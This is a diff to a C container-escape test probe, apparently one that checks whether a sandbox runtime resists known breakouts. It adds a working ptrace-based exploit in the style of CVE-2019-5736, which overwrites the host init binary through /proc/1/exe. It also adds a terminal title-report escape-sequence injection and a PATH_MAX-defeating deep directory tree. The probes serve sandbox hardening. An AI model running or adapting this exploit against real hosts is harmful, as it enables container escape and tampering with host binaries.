@@ -18,6 +18,8 @@
 #include <time.h>
 #include <sys/stat.h>
 #include <sys/ioctl.h>
+#include <sys/ptrace.h>
+#include <sys/user.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
@@ -200,6 +202,93 @@ static int racer(const char *marker, const char *secret, const char *out, const 
     return 0;
 }
 
+// runc's CVE-2019-5736: PID 1 of a started container is ctrsh-init, a file
+// of the host. Hold it through /proc/1/exe, make PID 1 execve `program` (a
+// ptrace-injected system call: PTRACE_INTERRUPT needs no signal, which a
+// namespace init would ignore), so that the host file is no longer being
+// executed (no ETXTBSY), and open the held file for writing; on success
+// append `marker`. Prints `init-exe-open`, `init-exe-ptrace` and
+// `init-exe-write`, each `ok` or an errno name.
+static int overwrite_init(const char *program, const char *marker) {
+    setvbuf(stdout, NULL, _IONBF, 0);  // PID 1 replaced may end the namespace
+    int exe = open("/proc/1/exe", O_PATH | O_CLOEXEC);
+    report("init-exe-open", exe);
+    if (exe < 0) return 0;
+    long traced = ptrace(PTRACE_SEIZE, 1, 0, 0);
+    if (traced == 0) traced = ptrace(PTRACE_INTERRUPT, 1, 0, 0);
+    int status;
+    if (traced == 0) traced = waitpid(1, &status, __WALL);
+    struct user_regs_struct r;
+    if (traced >= 0) traced = ptrace(PTRACE_GETREGS, 1, 0, &r);
+    report("init-exe-ptrace", traced);
+    if (traced < 0) return 0;
+    // The path and argv well below PID 1's stack pointer; rip back onto
+    // the `syscall` instruction it stopped after, orig_rax -1: no restart.
+    unsigned long base = (r.rsp - 4096) & ~0xfUL;
+    char path[64] = {0};
+    strncpy(path, program, sizeof path - 1);
+    for (int i = 0; i < 64; i += 8) ptrace(PTRACE_POKEDATA, 1, (void *)(base + i), *(long *)(path + i));
+    const char seconds[8] = "100000";  // `program 100000`: a sleep outlives the probe
+    ptrace(PTRACE_POKEDATA, 1, (void *)(base + 96), *(long *)seconds);
+    ptrace(PTRACE_POKEDATA, 1, (void *)(base + 64), (void *)base);
+    ptrace(PTRACE_POKEDATA, 1, (void *)(base + 72), (void *)(base + 96));
+    ptrace(PTRACE_POKEDATA, 1, (void *)(base + 80), 0);
+    r.rip -= 2;
+    r.rax = SYS_execve;
+    r.orig_rax = -1;
+    r.rdi = base;
+    r.rsi = base + 64;  // {path, "100000", NULL}
+    r.rdx = 0;
+    ptrace(PTRACE_SETREGS, 1, 0, &r);
+    ptrace(PTRACE_DETACH, 1, 0, 0);
+    char self[32];
+    snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
+    int fd = -1;
+    for (int i = 0; i < 300 && fd < 0; i++) {  // until PID 1 has left the file
+        fd = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
+        if (fd < 0) usleep(10000);
+    }
+    if (fd >= 0 && write(fd, marker, strlen(marker)) < 0) fd = -1;
+    return report("init-exe-write", fd);
+}
+
+// A terminal's title report: `ESC ] 2 ; TITLE BEL` sets the title, `CSI 21
+// t` asks the terminal to type it back. `print` writes the two and exits;
+// `name` makes them this process's name (argv[0], what `ps` shows) and
+// sleeps; `file` names a file so (a `/` in TITLE becomes `_`).
+static int title_query(const char *how, const char *title) {
+    char query[512];
+    snprintf(query, sizeof query, "\033]2;%s\007\033[21t", title);
+    if (strcmp(how, "print") == 0) {
+        fputs(query, stdout);
+        return 0;
+    }
+    if (strcmp(how, "file") == 0) {  // a file in / named so
+        char path[520];
+        snprintf(path, sizeof path, "/%s", query);
+        for (char *c = path + 1; *c; c++) if (*c == '/') *c = '_';
+        return report("title-query", open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
+    }
+    if (strcmp(how, "sleep") == 0) {
+        pause();
+        return 0;
+    }
+    char *args[] = {query, "title-query", "sleep", "-", NULL};
+    execv("/proc/self/exe", args);
+    return report("title-query", -1);
+}
+
+// `depth` directories, each inside the last (`/deep/d/d/…`), made relative
+// to the working directory so that PATH_MAX is no limit.
+static int deep_tree(const char *depth) {
+    long levels = strtol(depth, NULL, 10);
+    if (mkdir("/deep", 0755) < 0 || chdir("/deep") < 0) return report("deep", -1);
+    for (long i = 0; i < levels; i++) {
+        if (mkdir("d", 0755) < 0 || chdir("d") < 0) return report("deep", -1);
+    }
+    return report("deep", 0);
+}
+
 int main(int argc, char **argv) {
     const char *verb = argc > 1 ? argv[1] : "";
     if (strcmp(verb, "keyctl") == 0)  // KEYCTL_GET_KEYRING_ID of the session keyring
@@ -256,8 +345,11 @@ int main(int argc, char **argv) {
         if (fd < 0) return report(verb, -1);
         return inject(verb, fd, argv[2]);
     }
+    if (strcmp(verb, "deep") == 0 && argc > 2) return deep_tree(argv[2]);
+    if (strcmp(verb, "title-query") == 0 && argc > 3) return title_query(argv[2], argv[3]);
+    if (strcmp(verb, "init-exe") == 0 && argc > 3) return overwrite_init(argv[2], argv[3]);
     if (strcmp(verb, "racer") == 0 && argc > 5) return racer(argv[2], argv[3], argv[4], argv[5]);
     fprintf(stderr, "usage: escape-probe keyctl|unshare-user|clone-user|clone-plain|clone3|io_uring|i386-getpid|x32-getpid|"
-                    "chroot-escape MARKER|tiocsti TEXT|tiocsti-tty TEXT|tiocsti-high|vsock|vsock-high|racer MARKER SECRET OUT STOP\n");
+                    "chroot-escape MARKER|tiocsti TEXT|tiocsti-tty TEXT|tiocsti-high|vsock|vsock-high|racer MARKER SECRET OUT STOP|init-exe PROGRAM MARKER|title-query print|name|file TITLE|deep DEPTH\n");
     return 2;
 }
